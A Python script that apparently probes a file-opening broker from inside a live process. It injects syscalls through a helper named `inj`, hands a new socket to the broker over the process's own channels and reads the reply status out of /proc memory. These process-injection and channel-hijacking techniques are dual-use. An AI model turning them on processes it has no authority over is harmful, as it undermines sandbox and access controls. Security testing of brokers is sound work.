#!/usr/bin/env python3
"""Sends a request to the opener of a live `attach` from inside it, and prints the status of the reply.

usage: ask_opener.py ATTACH OPERATION PID FIRST SECOND [PATH], in the folder with `inj`. Prints `none` if no socket of `attach` answers.
"""

import os
import struct
import subprocess
import sys

STATUS = {0: "opened", 1: "denied", 2: "gone", 5: "not regular", 8: "not examined"}
HEAD_BYTES = 32


def sockets(pid):
    folder = f"/proc/{pid}/fd"
    for number in sorted(os.listdir(folder), key=int):
        try:
            if os.readlink(f"{folder}/{number}").startswith("socket:"):
                yield int(number)
        except FileNotFoundError:
            pass


def inject(pid, calls):
    lines = subprocess.run(["./inj", str(pid)], input="\n".join(calls) + "\n", capture_output=True, text=True).stdout
    results = [line.rsplit("-> ", 1)[1].split(" ")[0] for line in lines.splitlines() if "-> " in line]
    return [int(result) for result in results]


def connect(attach, socket):
    """Sends one end of a new pair of sockets through `socket`. Returns the other end, and the address of 64 KiB of memory."""
    memory = inject(attach, ["9 0 65536 3 0x22 0xffffffffffffffff"])[0]
    inject(attach, [f"53 1 5 0 {memory}"])
    with open(f"/proc/{attach}/mem", "rb") as content:
        content.seek(memory)
        ours, theirs = struct.unpack("<ii", content.read(8))
    data, vector, control, header = memory + 64, memory + 128, memory + 192, memory + 256
    inject(
        attach,
        [
            f"poke {data} {b'connect'.hex()}",
            f"poke {vector} {struct.pack('<QQ', data, 7).hex()}",
            f"poke {control} {struct.pack('<QiiiI', 20, 1, 1, theirs, 0).hex()}",
            f"poke {header} {struct.pack('<QIIQQQQII', 0, 0, 0, vector, 1, control, 24, 0, 0).hex()}",
            f"46 {socket} {header} 0x4040",
            # Another process than the opener replies at once. `attach` would take that for the reply to its next request.
            f"35 x:{struct.pack('<QQ', 0, 10_000_000).hex()} 0",
            f"45 {socket} {memory + 512} 1024 0x40 0 0",
            f"3 {theirs}",
        ],
    )
    return ours, memory


def ask(attach, operation, pid, first, second, path):
    request = struct.pack("<IIQQQ", operation, pid, os.stat(f"/proc/{pid}").st_ino, first, second) + path.encode()
    for socket in list(sockets(attach)):
        ours, memory = connect(attach, socket)
        results = inject(
            attach,
            [
                f"44 {ours} x:{request.hex()} {len(request)} 0x4040 0 0",
                f"35 x:{struct.pack('<QQ', 0, 500_000_000).hex()} 0",
                f"45 {ours} {memory} 65536 0x40 0 0",
                f"3 {ours}",
                # The reply of another process than the opener.
                f"45 {socket} {memory + 4096} 4096 0x40 0 0",
            ],
        )
        if len(results) > 2 and results[2] >= HEAD_BYTES:
            with open(f"/proc/{attach}/mem", "rb") as content:
                content.seek(memory)
                status = struct.unpack("<I", content.read(4))[0]
            return STATUS.get(status, f"status {status}")
    return "none"


if __name__ == "__main__":
    attach, operation, pid, first, second = (int(word, 0) for word in sys.argv[1:6])
    print(ask(attach, operation, pid, first, second, sys.argv[6] if len(sys.argv) > 6 else ""))
